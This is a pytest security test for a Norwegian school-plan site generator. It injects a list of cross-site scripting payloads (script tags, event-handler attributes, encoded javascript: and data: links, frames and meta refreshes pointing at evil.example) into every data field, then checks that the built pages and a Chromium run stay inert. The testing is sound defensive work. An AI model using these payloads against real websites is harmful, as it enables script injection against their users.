"""Nothing in the data runs, or loads, in a reader's browser: every text and address field with every payload.

The fields are found by walking the example school's data along the model (so a
new field is covered without a change here): every text in both written
standards, every plain string a reader sees, every web address. For each payload
one build puts it in every field that accepts it (a field whose check refuses it
is safe by refusal, and the build's refusal must be a located Norwegian message);
every file both sites wrote is then read for event-handler attributes, script
and data addresses, scripts, frames and anything loaded from another host. One
more build mixes all payloads over all fields and is opened in Chromium: no
dialog may open and no request may leave the host.
"""

from __future__ import annotations

import functools
import itertools
import re
import typing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from skoleplan.build import build_site
from skoleplan.errors import PlanError
from skoleplan.model import FILES
from skoleplan.model.base import Text
from skoleplan.model.walk import field_annotation, is_model, peel, refs_in, union_members

from ..conftest import flat_example, flat_example_files

PROJECT = Path(__file__).resolve().parents[2]

# Texts pasted from e-mails, Word and web pages, and what an attacker would write. Each calls `alert`
# or names evil.example, so a trace of one that survived can be found in any file.
TEXT_PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "<svg onload=alert(3)>",
    '"><img src=x onerror=alert(4)>',
    "'><svg/onload=alert(5)>",
    "</title><script>alert(6)</script>",
    "[klikk](javascript:alert(7))",
    "[klikk](javascript&colon;alert(8))",
    "[klikk](&#106;avascript:alert(9))",
    "[klikk](&#x6A;avascript:alert(10))",
    "[klikk](javascript&#58;alert(11))",
    "[klikk](java\tscript:alert(12))",
    "[klikk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)",
    "[klikk][r1]\n\n[r1]: javascript:alert(14)",
    "<javascript:alert(15)>",
    "![bilde](https://evil.example/p16.png)",
    "Tekst {: onclick=alert(17) style=color:red }",
    '<a href="javascript:alert(18)">lenke</a>',
    '<iframe src="https://evil.example/f19"></iframe>',
    '<object data="https://evil.example/o20"></object>',
    '<link rel="stylesheet" href="https://evil.example/s21.css">',
    "<style>@import url(https://evil.example/s22.css);</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/r23">',
    '<base href="https://evil.example/b24/">',
    '<form action="https://evil.example/f25"><input name=q></form>',
    "{{ 7*7 }} {% raw %} alert(26)",
    "[vb](vbscript:alert(27))",
    '<a href="https://ok.example/" onmouseover="alert(28)">x</a>',
]
URL_PAYLOADS = [
    "https://x.example/?){:onclick=alert(31)}",
    'https://x.example/")![x](https://evil.example/p32.png',
    "javascript:alert(33)",
    "https://x.example/<script>alert(34)</script>",
    'https://x.example/"onmouseover="alert(35)',
    "data:text/html,<script>alert(36)</script>",
]


# --- the fields, from the model ---------------------------------------------------------------------


def fields(annotation: Any, value: Any, path: tuple = ()) -> typing.Iterator[tuple[tuple, str]]:
    """(path, kind) of every field in `value` (a data file as read) that a reader sees: «text», «url» or «plain»."""
    bare = peel(annotation)
    members = union_members(bare)
    if members is not None:
        for member in members:
            inner = peel(member)
            if isinstance(value, dict) and is_model(inner) and set(value) <= set(inner.model_fields):
                yield from fields(member, value, path)
                return
            if isinstance(value, list) and typing.get_origin(inner) is list:
                yield from fields(member, value, path)
                return
        return
    if is_model(bare) and isinstance(value, dict):
        if issubclass(bare, Text):
            yield path, "text"
            return
        for name in bare.model_fields:
            if name in value and name not in ("id", "visibility"):
                yield from fields(field_annotation(bare, name), value[name], path + (name,))
    elif isinstance(value, list) and typing.get_origin(bare) is list:
        inner = typing.get_args(bare)[0]
        for i, item in enumerate(value):
            yield from fields(inner, item, path + (i,))
    elif isinstance(value, str) and not refs_in(annotation):
        if "Url" in repr(annotation):
            yield path, "url"
        elif bare is str:
            yield path, "plain"


def data_files() -> dict[str, Any]:
    """The example's data files, every layer merged, read afresh (a test plants its payloads in them)."""
    return {name: yaml.load(text, Loader=yaml.CSafeLoader) for name, text in flat_example_files().items() if name in FILES}


@functools.cache
def example_fields() -> list[tuple[str, tuple, str]]:
    """Every field of the example a payload can be put in: (file, path, kind). Made when a test first asks,
    not when the module is collected (the fast lane collects it and runs none of its builds)."""
    return [(name, path, kind) for name, doc in data_files().items() for path, kind in fields(FILES[name], doc)]


def put(doc: Any, path: tuple, value: Any) -> None:
    for part in path[:-1]:
        doc = doc[part]
    if isinstance(doc[path[-1]], dict) and {"nb", "nn"} & set(doc[path[-1]]):  # a text: both written standards
        doc[path[-1]] = {**{k: v for k, v in doc[path[-1]].items() if k == "visibility"}, "nb": value, "nn": value}
    else:
        doc[path[-1]] = value


def plant(data: Path, choose) -> None:
    """Write the example's data into `data` with `choose(i, kind)` (or None: unchanged) in every field."""
    docs = data_files()
    for i, (name, path, kind) in enumerate(example_fields()):
        value = choose(i, kind)
        if value is not None:
            put(docs[name], path, value)
    for name, doc in docs.items():
        (data / name).write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")


def build_or_refusal(root: Path, choose) -> tuple[Path | None, str]:
    """Build the planted data; fields whose checks refuse their payload are put back until it builds."""
    data = flat_example(root / "data")
    refused: set[int] = set()
    messages = []
    for _ in range(6):
        plant(data, lambda i, kind: None if i in refused else choose(i, kind))
        try:
            build_site(PROJECT, root / "site", data, staff_dir=root / "site-intern")
            return root, "\n".join(messages)
        except PlanError as exc:
            messages += [str(p) for p in exc.problems]
            for problem in exc.problems:
                assert re.match(r"^.+\.yaml:\d+:\d+: ", str(problem)), str(problem)
                assert "Traceback" not in problem.message
            refused |= _fields_at(data, {(Path(p.file).name, p.line) for p in exc.problems})
    return None, "\n".join(messages)


def _fields_at(data: Path, places: set[tuple[str, int]]) -> set[int]:
    """The fields standing on these (file, line) places of the planted data (the loader's own positions)."""
    from skoleplan.source import load_file

    found = set()
    for name in {name for name, _ in places}:
        source, _ = load_file(data / name, name)
        for i, (file, path, _) in enumerate(example_fields()):
            if file == name and (name, source.position(path).line) in places:
                found.add(i)
    return found


# --- what must never be in a built file ---------------------------------------------------------------


class Scan(HTMLParser):
    """Every element and attribute of a page that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("iframe", "object", "embed", "base", "frame", "applet"):
            self.found.append(f"<{tag}>")
        if tag == "meta" and any(k == "http-equiv" and (v or "").lower() == "refresh" for k, v in attrs):
            target = dict(attrs).get("content") or ""
            if not re.fullmatch(r"\d+; url=(nb|nn)/", target):  # the root page's own way to a written standard
                self.found.append(f"<meta refresh {target}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"):
                # As a browser reads an address: C0 controls and spaces stripped at the ends, tabs and newlines anywhere.
                compact = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21))))).lower()
                if compact.startswith(("javascript:", "data:", "vbscript:")):
                    self.found.append(f"<{tag} {name}={value[:40]}>")
                if "evil.example" in compact and (tag != "a" or name != "href"):
                    self.found.append(f"<{tag} {name}> from another host")
            if name == "style" and "evil.example" in value:
                self.found.append(f"<{tag} style> loading from another host")
        self.in_script = tag in ("script", "style")

    def handle_endtag(self, tag: str) -> None:
        self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and ("alert(" in data or "evil.example" in data):
            self.found.append(f"script or style with a payload: {data.strip()[:60]}")


def dangers(root: Path) -> list[str]:
    found = []
    for site in ("site", "site-intern"):
        for path in sorted((root / site).rglob("*")):
            if path.suffix in (".html", ".svg", ".xml"):
                scan = Scan()
                scan.feed(path.read_text(encoding="utf-8", errors="replace"))
                found += [f"{path.relative_to(root)}: {what}" for what in scan.found]
            elif path.suffix == ".json":
                text = path.read_text(encoding="utf-8", errors="replace")
                for bad in re.findall(r"<(?:script|iframe|object|img[^>]*onerror)[^>]{0,40}", text, re.I):
                    found.append(f"{path.relative_to(root)}: {bad}")
    return found


# --- the tests -------------------------------------------------------------------------------------------


def test_the_fields_come_from_the_model_and_cover_every_kind():
    kinds = {kind for _, _, kind in example_fields()}
    assert kinds == {"text", "url", "plain"}
    assert len([f for f in example_fields() if f[2] == "text"]) > 500
    files = {name for name, _, _ in example_fields()}
    assert files >= set(FILES) - {"sok.yaml", "skolerute.yaml"}


@pytest.mark.build
@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=range(len(TEXT_PAYLOADS)))
def test_a_text_payload_in_every_field_stays_text(tmp_path, payload):
    root, refusals = build_or_refusal(tmp_path, lambda i, kind: payload if kind in ("text", "plain") else None)
    assert root is not None, refusals
    assert dangers(root) == []


@pytest.mark.build
@pytest.mark.parametrize("payload", URL_PAYLOADS, ids=range(len(URL_PAYLOADS)))
def test_an_address_payload_is_refused_or_harmless(tmp_path, payload):
    root, refusals = build_or_refusal(tmp_path, lambda i, kind: payload if kind == "url" else None)
    if root is not None:
        assert dangers(root) == []
    else:
        assert "nettadresse" in refusals


@pytest.mark.build
@pytest.mark.browser
def test_in_chromium_no_dialog_opens_and_no_request_leaves_the_host(tmp_path):
    from tests.browser import tools
    from tests.browser.server import StaticServer

    mixed = itertools.cycle(TEXT_PAYLOADS)
    root, refusals = build_or_refusal(tmp_path, lambda i, kind: next(mixed) if kind in ("text", "plain") else None)
    assert root is not None, refusals
    assert dangers(root) == []
    pages = sorted(p.relative_to(root).as_posix() for p in root.glob("site*/*/**/index.html"))
    dialogs: list[str] = []
    outside: list[str] = []
    with StaticServer(root) as server, tools.launched_chromium() as browser:
        page = browser.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: None if request.url.startswith(server.origin) else outside.append(request.url))
        for path in pages:
            page.goto(server.url + path.removesuffix("index.html"), wait_until="load")
            page.hover("body")
    assert len(pages) > 80
    assert dialogs == []
    assert outside == []
